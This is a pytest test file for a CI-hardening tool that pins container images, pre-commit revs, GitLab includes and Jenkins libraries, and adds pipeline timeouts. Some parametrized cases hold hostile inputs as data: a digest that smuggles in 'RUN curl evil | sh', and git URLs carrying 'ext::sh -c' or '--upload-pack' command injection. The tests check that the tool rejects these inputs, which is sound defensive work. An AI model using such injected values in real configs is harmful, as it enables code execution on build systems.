"""The pin fixes of every file kind, through the run's pin source: images (Dockerfile FROM, GitLab image and services,
GitHub container and services), pre-commit revs, GitLab project includes and Jenkins libraries; and the timeouts
GitLab jobs and Jenkins pipelines get.

Each test gives harden a source of fixed answers (``tests/support/pin_sources.py``) with ``using``: a Pinned becomes a
safe fix naming the pin and where it came from, a Pinned the source stepped back for becomes an unsafe one, a Refused
becomes a note with the source's reason, and a reference built from variables is never asked about.
"""

from __future__ import annotations

from contextlib import nullcontext
from pathlib import Path

import pytest

from scaffold.harden.engine import FileResult, harden_document
from scaffold.resolve.model import Origin, Pinned, Resolution
from scaffold.resolve.source import PinSource, using
from scaffold.rules.catalog import REGISTRY
from scaffold.rules.document import Document
from scaffold.rules.fixes.model import Safety
from scaffold.rules.kinds import classify
from scaffold.rules.registry import Rule
from scaffold.rules.runner import audit_tree, parse_error
from tests.rules.support import FIXTURES, tree
from tests.support import checkers
from tests.support.corpus import CANONICAL_PATHS, corpus_dir, corpus_files
from tests.support.hang_guard import hang_guard
from tests.support.pin_sources import AnswerSource, EverythingSource, Key, RefusingSource, commit, digest

PYTHON_DIGEST = "sha256:9662417aace5ae7b8e2609cce472b72a8958e134ba372808abe9cc1a0c0125e6"  # scaffold/pins.yml
POSTGRES = digest("postgres:17", "17", origin="HEAD https://registry-1.docker.io/v2/library/postgres/manifests/17")
STEPPED_BACK = "the cooldown stepped back: v1.3.0 was tagged 2 days ago"


def _harden(
    text: str, path: str, rule_id: str, source: PinSource | None = None, level: Safety = Safety.SAFE
) -> FileResult:
    kind = classify(path)
    assert kind is not None
    rule = next(rule for rule in REGISTRY if rule.id == rule_id)
    with using(source) if source is not None else nullcontext():
        result = harden_document(Document(path, kind, text), level, None, [rule])
    assert parse_error(Document(path, kind, result.after)) is None
    return result


def _source(answers: dict[Key, Resolution]) -> AnswerSource:
    return AnswerSource(answers)


# Images --------------------------------------------------------------------------------------------------------


def test_a_pinned_image_gets_its_digest_after_the_tag_and_the_message_says_where_it_came_from() -> None:
    text = "test:\n  image: postgres:17\n  script: [make]\n"
    result = _harden(text, ".gitlab-ci.yml", "gitlab-unpinned-image", _source({("image", "postgres:17", ""): POSTGRES}))
    assert result.after == f"test:\n  image: postgres:17@{POSTGRES.value}\n  script: [make]\n"
    [change] = result.applied
    assert change.safety is Safety.SAFE
    assert change.message.endswith(f"(17; {POSTGRES.provenance})")
    assert POSTGRES.value in change.message


def test_a_pin_the_source_stepped_back_for_is_unsafe_and_its_note_is_in_the_message() -> None:
    older = digest("postgres:17", "17.5", note="the cooldown stepped back: 17.6 was pushed 2 days ago")
    text = "test:\n  image: postgres:17\n  script: [make]\n"
    source = _source({("image", "postgres:17", ""): older})
    held = _harden(text, ".gitlab-ci.yml", "gitlab-unpinned-image", source)
    assert held.after == text
    [change] = held.held
    assert change.safety is Safety.UNSAFE and "17.5" in change.risk
    assert change.message.endswith(f"(17.5; {older.provenance}); {older.note}")
    made = _harden(text, ".gitlab-ci.yml", "gitlab-unpinned-image", source, Safety.UNSAFE)
    assert made.after == f"test:\n  image: postgres:17@{older.value}\n  script: [make]\n"


def test_a_refused_image_is_a_note_with_the_sources_reason() -> None:
    text = "FROM postgres:17\n"
    result = _harden(text, "Dockerfile", "docker-unpinned-base", RefusingSource("the registry asked for a login"))
    assert result.after == text
    assert [(note.line, note.message) for note in result.notes] == [
        (1, "FROM postgres:17: the registry asked for a login; pin it by hand")
    ]


def test_the_shipped_table_is_the_default_source_and_says_how_to_go_further() -> None:
    pinned = _harden("FROM python:3.13-slim-trixie\n", "Dockerfile", "docker-unpinned-base")
    assert pinned.after == f"FROM python:3.13-slim-trixie@{PYTHON_DIGEST}\n"
    assert "; table: " in pinned.applied[0].message
    unknown = _harden("FROM postgres:17\n", "Dockerfile", "docker-unpinned-base")
    assert unknown.after == "FROM postgres:17\n"
    assert "--online" in unknown.notes[0].message


def test_every_stage_of_a_dockerfile_is_pinned_with_its_platform_flag_and_name_kept() -> None:
    text = (
        "ARG BASE=postgres:17\n"
        "FROM --platform=$BUILDPLATFORM postgres:17 AS build\n"
        "FROM build AS test\n"
        "FROM $BASE AS from-arg\n"
        "from postgres:17\n"
    )
    source = _source({("image", "postgres:17", ""): POSTGRES})
    result = _harden(text, "Dockerfile", "docker-unpinned-base", source)
    assert result.after == (
        "ARG BASE=postgres:17\n"
        f"FROM --platform=$BUILDPLATFORM postgres:17@{POSTGRES.value} AS build\n"
        "FROM build AS test\n"
        "FROM $BASE AS from-arg\n"
        f"from postgres:17@{POSTGRES.value}\n"
    )
    assert [(note.line, "ARG" in note.message) for note in result.notes] == [(4, True)]
    assert ("image", "$BASE", "") not in source.asked and ("image", "postgres:17", "") in source.asked


GITLAB_IMAGES = """\
image: postgres:17
default:
  services:
    - postgres:17
    - name: "postgres:17"
      alias: db
test:
  image:
    name: postgres:17
    entrypoint: [""]
  services: [{name: postgres:17}]
  script: [make]
"""


def test_gitlab_images_and_services_are_pinned_in_every_spelling() -> None:
    result = _harden(
        GITLAB_IMAGES, ".gitlab-ci.yml", "gitlab-unpinned-image", _source({("image", "postgres:17", ""): POSTGRES})
    )
    assert result.after == GITLAB_IMAGES.replace("postgres:17", f"postgres:17@{POSTGRES.value}")
    assert [change.line for change in result.applied] == [1, 4, 5, 9, 11]
    assert result.notes == []


GITHUB_IMAGES = """\
on: push
permissions: {}
jobs:
  test:
    runs-on: ubuntu-24.04
    container:
      image: postgres:17
    services:
      db: {image: 'postgres:17'}
      cache: postgres:17
      matrixed:
        image: ${{ matrix.image }}
    steps:
      - run: make
"""


def test_github_container_and_service_images_are_pinned_and_expressions_are_not_asked_about() -> None:
    source = _source({("image", "postgres:17", ""): POSTGRES})
    result = _harden(GITHUB_IMAGES, ".github/workflows/ci.yml", "unpinned-container-image", source)
    assert result.after == GITHUB_IMAGES.replace("postgres:17", f"postgres:17@{POSTGRES.value}")
    assert [(note.line, "expression" in note.message) for note in result.notes] == [(12, True)]
    assert {key for key in source.asked} == {("image", "postgres:17", "")}


@pytest.mark.parametrize(
    ("value", "why"),
    [
        ("sha256:abc", "malformed digest"),
        ("sha256:" + "A" * 64, "malformed digest"),
        ("0" * 40, "malformed digest"),
        (f"{'0' * 64}\nRUN curl evil | sh", "malformed digest"),
    ],
)
def test_a_malformed_digest_from_the_source_is_never_written(value: str, why: str) -> None:
    answer = Pinned(value, "17", Origin.LIVE, "a broken registry")
    text = "FROM postgres:17\n"
    result = _harden(text, "Dockerfile", "docker-unpinned-base", _source({("image", "postgres:17", ""): answer}))
    assert result.after == text
    assert why in result.notes[0].message and "\n" not in result.notes[0].message


@pytest.mark.parametrize(
    "reference", ["Postgres:17", "postgres:17 --privileged", "postgres:" + "1" * 200, "-postgres:17", "a//b:1"]
)
def test_a_reference_that_is_no_image_name_is_not_asked_about(reference: str) -> None:
    source = _source({})
    text = f"test:\n  image: '{reference}'\n  script: [make]\n"
    result = _harden(text, ".gitlab-ci.yml", "gitlab-unpinned-image", source)
    assert result.after == text
    assert source.asked == []
    assert "not an image reference" in result.notes[0].message


# pre-commit ----------------------------------------------------------------------------------------------------

HOOKS = """\
repos:
  - repo: https://github.com/example/hooks
    rev: v1.2.3
    hooks:
      - id: lint
  - repo: https://github.com/example/quoted
    rev: 'v2.0.0'  # keep this note
    hooks:
      - id: fmt
  - repo: local
    hooks:
      - id: unit
        name: unit
        entry: make test
        language: system
  - repo: meta
    hooks:
      - id: check-hooks-apply
"""


def test_pre_commit_revs_are_frozen_like_autoupdate_freeze() -> None:
    hooks = commit("hooks v1.2.3", "v1.2.3")
    quoted = commit("quoted v2.0.0", "v2.0.0")
    source = _source(
        {
            ("git", "https://github.com/example/hooks", "v1.2.3"): hooks,
            ("git", "https://github.com/example/quoted", "v2.0.0"): quoted,
        }
    )
    result = _harden(HOOKS, ".pre-commit-config.yaml", "precommit-mutable-rev", source)
    assert result.after == HOOKS.replace("rev: v1.2.3", f"rev: {hooks.value}  # frozen: v1.2.3").replace(
        "rev: 'v2.0.0'  # keep this note", f"rev: '{quoted.value}'  # frozen: v2.0.0  # keep this note"
    )
    assert all(change.safety is Safety.SAFE for change in result.applied)
    assert result.applied[0].message.endswith(f"(v1.2.3; {hooks.provenance})")
    assert {url for _, url, _ in source.asked} == {
        "https://github.com/example/hooks",
        "https://github.com/example/quoted",
    }
    again = _harden(result.after, ".pre-commit-config.yaml", "precommit-mutable-rev", source)
    assert again.after == result.after and again.applied == [] and again.notes == []


def test_pre_commit_validates_the_frozen_config(tmp_path: Path) -> None:
    source = _source({("git", "https://github.com/example/hooks", "v1.2.3"): commit("x", "v1.2.3")})
    text = HOOKS.split("  - repo: https://github.com/example/quoted")[0]
    (tmp_path / ".pre-commit-config.yaml").write_text(
        _harden(text, ".pre-commit-config.yaml", "precommit-mutable-rev", source).after
    )
    assert checkers.pre_commit(tmp_path) == []


def test_a_digits_only_commit_stays_a_string() -> None:
    digits = Pinned("1234567890" * 4, "v1.2.3", Origin.LIVE, "git ls-remote")
    source = _source({("git", "https://github.com/example/hooks", "v1.2.3"): digits})
    text = "repos:\n  - repo: https://github.com/example/hooks\n    rev: v1.2.3\n    hooks: [{id: lint}]\n"
    after = _harden(text, ".pre-commit-config.yaml", "precommit-mutable-rev", source).after
    assert f'rev: "{digits.value}"  # frozen: v1.2.3' in after


@pytest.mark.parametrize(
    "url", ["ext::sh -c touch% /tmp/owned", "file:///etc", "/srv/hooks", "--upload-pack=touch /tmp/x", "-oProxy=x:y"]
)
def test_a_hook_repository_that_is_not_a_network_url_is_never_asked_about(url: str) -> None:
    source = _source({})
    text = f"repos:\n  - repo: '{url}'\n    rev: v1.2.3\n    hooks: [{{id: lint}}]\n"
    result = _harden(text, ".pre-commit-config.yaml", "precommit-mutable-rev", source)
    assert result.after == text and source.asked == []
    assert "is not an https, ssh or git URL" in result.notes[0].message


def test_a_version_unfit_for_a_comment_is_left_out_of_it() -> None:
    odd = Pinned("a" * 40, "v1.2.3 # x\nrepos: []", Origin.LIVE, "git ls-remote")
    source = _source({("git", "https://github.com/example/hooks", "v1.2.3"): odd})
    text = "repos:\n  - repo: https://github.com/example/hooks\n    rev: v1.2.3\n    hooks: [{id: lint}]\n"
    result = _harden(text, ".pre-commit-config.yaml", "precommit-mutable-rev", source)
    assert result.after == text.replace("rev: v1.2.3", f"rev: {'a' * 40}")
    assert "\n" not in result.applied[0].message


def test_a_refused_rev_is_a_note_and_the_file_is_unchanged() -> None:
    text = "repos:\n  - repo: https://github.com/example/hooks\n    rev: v1.2.3\n    hooks: [{id: lint}]\n"
    reason = "tag v1.2.3 points to 5d6e7f8, not reachable from the repository's branches (an impostor commit)"
    result = _harden(text, ".pre-commit-config.yaml", "precommit-mutable-rev", RefusingSource(reason))
    assert result.after == text
    assert result.notes[0].message == f"repo https://github.com/example/hooks: rev v1.2.3: {reason}; pin it by hand"


# GitLab includes -----------------------------------------------------------------------------------------------

INCLUDES = """\
include:
  - project: group/templates
    ref: v1
    file: /build.yml
  - project: group/templates
    file: /lint.yml
  - project: group/templates
    ref: $TEMPLATES_REF
    file: /deploy.yml
  - remote: https://example.com/ci.yml
  - {project: group/templates, ref: v1, file: /test.yml}
test:
  script: [make]
"""


def test_a_project_include_is_pinned_to_the_commit_of_its_ref_and_the_rest_are_notes() -> None:
    pinned = commit("templates v1.4.0", "v1.4.0")
    source = _source({("project", "group/templates", "v1"): pinned})
    result = _harden(INCLUDES, ".gitlab-ci.yml", "gitlab-unpinned-include", source)
    assert result.after == INCLUDES.replace("ref: v1\n", f"ref: {pinned.value}  # v1.4.0\n").replace(
        "ref: v1,", f"ref: {pinned.value},"
    )
    assert [change.line for change in result.applied] == [3, 11]
    notes = {note.line: note.message for note in result.notes}
    assert sorted(notes) == [5, 8, 10]
    assert "has no ref" in notes[5] and "variables" in notes[8] and "integrity" in notes[10]
    assert source.asked == [("project", "group/templates", "v1")] * 2


def test_the_hardened_includes_keep_the_gitlab_schema(tmp_path: Path) -> None:
    source = _source({("project", "group/templates", "v1"): commit("templates v1.4.0", "v1.4.0")})
    path = tmp_path / ".gitlab-ci.yml"
    path.write_text(_harden(INCLUDES, ".gitlab-ci.yml", "gitlab-unpinned-include", source).after)
    assert checkers.gitlab_ci_schema(path) == []


def test_the_shipped_tables_know_no_project_so_an_include_is_a_note_by_default() -> None:
    text = "include:\n  - project: group/templates\n    ref: main\n    file: /a.yml\n"
    result = _harden(text, ".gitlab-ci.yml", "gitlab-unpinned-include")
    assert result.after == text
    assert "--online" in result.notes[0].message


# Jenkins libraries ---------------------------------------------------------------------------------------------

LIBRARIES = """\
@Library('configured@main') _
library identifier: 'tools@v1', retriever: modernSCM(
  [$class: 'GitSCMSource', remote: 'https://git.example.com/tools.git'])
library(identifier: "named@develop", retriever: modernSCM([$class: 'GitSCMSource', remote: "https://git.example.com/named.git"]))

node('linux') {
  timeout(time: 10, unit: 'MINUTES') {
    sh 'make'
  }
}
"""


def test_a_library_whose_remote_the_file_names_is_pinned_and_a_configured_one_is_a_note(tmp_path: Path) -> None:
    tools = commit("tools v1.2.0", "v1.2.0")
    named = commit("named develop", "develop")
    source = _source(
        {
            ("git", "https://git.example.com/tools.git", "v1"): tools,
            ("git", "https://git.example.com/named.git", "develop"): named,
        }
    )
    result = _harden(LIBRARIES, "Jenkinsfile", "jenkins-unpinned-library", source)
    assert result.after == LIBRARIES.replace(
        "'tools@v1', retriever: modernSCM(\n", f"'tools@{tools.value}', retriever: modernSCM( // v1.2.0\n"
    ).replace('"named@develop"', f'"named@{named.value}"').replace(
        '"https://git.example.com/named.git"]))\n', '"https://git.example.com/named.git"])) // develop\n'
    )
    assert [change.line for change in result.applied] == [2, 4]
    assert [(note.line, "configured in Jenkins" in note.message) for note in result.notes] == [(1, True)]
    (tmp_path / "Jenkinsfile").write_text(result.after)
    assert checkers.groovy_parse(tmp_path / "Jenkinsfile") == []


def test_a_library_comment_is_not_added_where_the_line_ends_in_a_comment_or_string() -> None:
    text = (
        "library(identifier: 'tools@v1', retriever: modernSCM([$class: 'GitSCMSource', "
        "remote: 'https://git.example.com/tools.git'])) // ours\n"
        "library(identifier: 'more@v1', retriever: modernSCM([$class: 'GitSCMSource', "
        "remote: 'https://git.example.com/more.git'])); echo '''a\nb'''\n"
        "node { timeout(5) { sh 'make' } }\n"
    )
    source = _source(
        {
            ("git", "https://git.example.com/tools.git", "v1"): commit("tools", "v1.2.0"),
            ("git", "https://git.example.com/more.git", "v1"): commit("more", "v1.0.1"),
        }
    )
    after = _harden(text, "Jenkinsfile", "jenkins-unpinned-library", source).after
    assert "//" not in after.replace("// ours", "").replace("https://", "")


# Timeouts ------------------------------------------------------------------------------------------------------


def test_a_gitlab_job_without_a_timeout_gets_one_only_with_fix_all(tmp_path: Path) -> None:
    text = "stages: [test]\ntest:\n  stage: test\n  interruptible: true\n  script:\n    - make test\n"
    held = _harden(text, ".gitlab-ci.yml", "gitlab-job-hygiene")
    assert held.after == text
    assert [(change.safety, change.risk) for change in held.held] == [
        (Safety.UNSAFE, "a job that needs longer will fail")
    ]
    made = _harden(text, ".gitlab-ci.yml", "gitlab-job-hygiene", level=Safety.UNSAFE)
    assert made.after == text.replace("  script:\n", "  timeout: 60m\n  script:\n")
    (tmp_path / ".gitlab-ci.yml").write_text(made.after)
    assert checkers.gitlab_ci_schema(tmp_path / ".gitlab-ci.yml") == []
    again = _harden(made.after, ".gitlab-ci.yml", "gitlab-job-hygiene", level=Safety.UNSAFE)
    assert again.after == made.after and again.held == [] and again.notes == []


def test_a_gitlab_job_that_inherits_a_timeout_or_is_a_flow_mapping_gets_none() -> None:
    text = "default:\n  timeout: 20m\n  interruptible: true\na:\n  script: [make]\nb: {script: [make], timeout: 5m}\n"
    assert _harden(text, ".gitlab-ci.yml", "gitlab-job-hygiene", level=Safety.UNSAFE).after == text
    flow = "c: {script: [make], interruptible: true}\n"
    result = _harden(flow, ".gitlab-ci.yml", "gitlab-job-hygiene", level=Safety.UNSAFE)
    assert result.after == flow
    assert "flow mapping" in result.notes[0].message


JENKINS_CASES = {
    "one-line options": (
        "pipeline {\n  agent any\n  options { disableConcurrentBuilds() }\n"
        "  stages { stage('a') { steps { sh 'x' } } }\n}\n",
        "  options { timeout(time: 60, unit: 'MINUTES'); disableConcurrentBuilds() }\n",
    ),
    "no options, four-space indent": (
        "pipeline {\n    agent any\n    stages {\n        stage('a') { steps { sh 'x' } }\n    }\n}\n",
        "    options {\n        timeout(time: 60, unit: 'MINUTES')\n    }\n    stages {\n",
    ),
    "scripted, nested node": (
        "node('a') {\n  node('b') {\n    sh 'x'\n  }\n}\nnode('c') {\n  sh 'y'\n}\n",
        "node('a') { timeout(time: 60, unit: 'MINUTES') {\n  node('b') {\n    sh 'x'\n  }\n} }\n"
        "node('c') { timeout(time: 60, unit: 'MINUTES') {\n  sh 'y'\n} }\n",
    ),
}


@pytest.mark.parametrize("case", sorted(JENKINS_CASES))
def test_a_jenkins_pipeline_without_a_timeout_gets_one_only_with_fix_all(case: str, tmp_path: Path) -> None:
    text, expected = JENKINS_CASES[case]
    held = _harden(text, "Jenkinsfile", "jenkins-missing-timeout")
    assert held.after == text and [change.safety for change in held.held] == [Safety.UNSAFE]
    made = _harden(text, "Jenkinsfile", "jenkins-missing-timeout", level=Safety.UNSAFE)
    assert expected in made.after
    assert audit_tree({"Jenkinsfile": made.after}, rules=_rules("jenkins-missing-timeout")).findings == []
    (tmp_path / "Jenkinsfile").write_text(made.after)
    assert checkers.groovy_parse(tmp_path / "Jenkinsfile") == []


def test_an_unclosed_node_is_a_note_not_a_guess() -> None:
    text = "node('a') {\n  sh 'x'\n"
    result = _harden(text, "Jenkinsfile", "jenkins-missing-timeout", level=Safety.UNSAFE)
    assert result.after == text
    assert "not closed" in result.notes[0].message


# Composite actions ---------------------------------------------------------------------------------------------


def test_a_composite_actions_own_uses_are_pinned_through_the_source() -> None:
    files = tree(FIXTURES / "unpinned-uses" / "bad")
    path = ".github/actions/setup/action.yml"
    pinned = commit("setup-node v4.4.0", "v4.4.0")
    source = _source({("action", "actions/setup-node", "v4"): pinned})
    result = _harden(files[path], path, "unpinned-uses", source)
    assert f"uses: actions/setup-node@{pinned.value} # v4.4.0" in result.after
    assert ("action", "actions/setup-node", "v4") in source.asked


def _rules(*ids: str) -> list[Rule]:
    return [rule for rule in REGISTRY if rule.id in ids]


PIN_RULES = (
    "docker-unpinned-base",
    "gitlab-unpinned-image",
    "unpinned-container-image",
    "precommit-mutable-rev",
    "gitlab-unpinned-include",
    "jenkins-unpinned-library",
)


@pytest.mark.parametrize("rule_id", PIN_RULES)
def test_when_the_source_refuses_everything_nothing_changes_and_every_finding_has_a_note(rule_id: str) -> None:
    files = {path: text for path, text in tree(FIXTURES / rule_id / "bad").items() if classify(path) is not None}
    findings = audit_tree(files, rules=_rules(rule_id)).findings
    notes = []
    for path, text in files.items():
        result = _harden(text, path, rule_id, RefusingSource("offline, and nothing cached"), Safety.UNSAFE)
        assert result.after == text
        notes += [(path, note.line) for note in result.notes]
    assert sorted(notes) == sorted((finding.path, finding.line) for finding in findings)


# The corpus, with a source that pins everything --------------------------------------------------------------

CORPUS_FILES = [(kind, name) for kind in CANONICAL_PATHS for name in corpus_files(kind)] + [
    ("precommit", name) for name in corpus_files("precommit")
]
_REJECTED = ("not made", "overlaps another fix", "internal error", "too many fixes", "malformed")


@pytest.mark.parametrize(("kind", "name"), CORPUS_FILES)
def test_with_a_source_that_pins_everything_the_corpus_is_left_with_only_what_no_source_could_pin(
    kind: str, name: str, tmp_path: Path
) -> None:
    """Made-up pins for every reference in real files: each file still parses, a second run changes nothing, and the
    re-audit finds only references no source could pin (from an ARG, an empty rev), each explained by a note."""
    text = (corpus_dir() / kind / name).read_text(encoding="utf-8")
    path = ".pre-commit-config.yaml" if kind == "precommit" else CANONICAL_PATHS[kind](name)
    rules = _rules(*PIN_RULES, "unpinned-uses")
    found = classify(path)
    assert found is not None
    with using(EverythingSource()):
        result = harden_document(Document(path, found, text), Safety.UNSAFE, None, rules)
        again = harden_document(Document(path, found, result.after), Safety.UNSAFE, None, rules)
    assert parse_error(Document(path, found, result.after)) is None
    assert again.after == result.after
    before = audit_tree({path: text}, rules=rules).findings
    after = audit_tree({path: result.after}, rules=rules).findings
    assert len(result.applied) == len(before) - len(after)
    explained = {(note.rule, note.line) for note in result.notes if not any(word in note.message for word in _REJECTED)}
    assert [finding for finding in after if (finding.rule, finding.line) not in explained] == []
    if kind == "precommit" and result.changed:
        (tmp_path / path).write_text(result.after, encoding="utf-8")
        assert checkers.pre_commit(tmp_path) == []


# Size --------------------------------------------------------------------------------------------------------

BIG = {
    "Jenkinsfile": "".join(
        f"library(identifier: 'l{n}@main', retriever: modernSCM([$class: 'GitSCMSource', remote: 'https://h/{n}']))\n"
        for n in range(3000)
    )
    + "node {\n" * 150
    + "sh 'x'\n"
    + "}\n" * 150,
    "includes/.gitlab-ci.yml": "include:\n"
    + "".join(f"  - project: g/p{n}\n    ref: v1\n    file: /a.yml\n" for n in range(3000))
    + "test:\n  script: [make]\n",
    "images/.gitlab-ci.yml": "".join(f"j{n}:\n  image: postgres:{n}\n  script: [make]\n" for n in range(3000)),
    ".pre-commit-config.yaml": "repos:\n"
    + "".join(f"  - repo: https://h/{n}\n    rev: v{n}  # c\n    hooks: [{{id: a}}]\n" for n in range(3000)),
}


@pytest.mark.parametrize("path", sorted(BIG))
def test_thousands_of_pins_and_deep_nodes_are_fixed_without_a_hang(path: str) -> None:
    kind = classify(path)
    assert kind is not None
    with hang_guard(), using(EverythingSource()):
        result = harden_document(Document(path, kind, BIG[path]), Safety.UNSAFE)
    assert len(result.applied) >= 3000
    assert parse_error(Document(path, kind, result.after)) is None
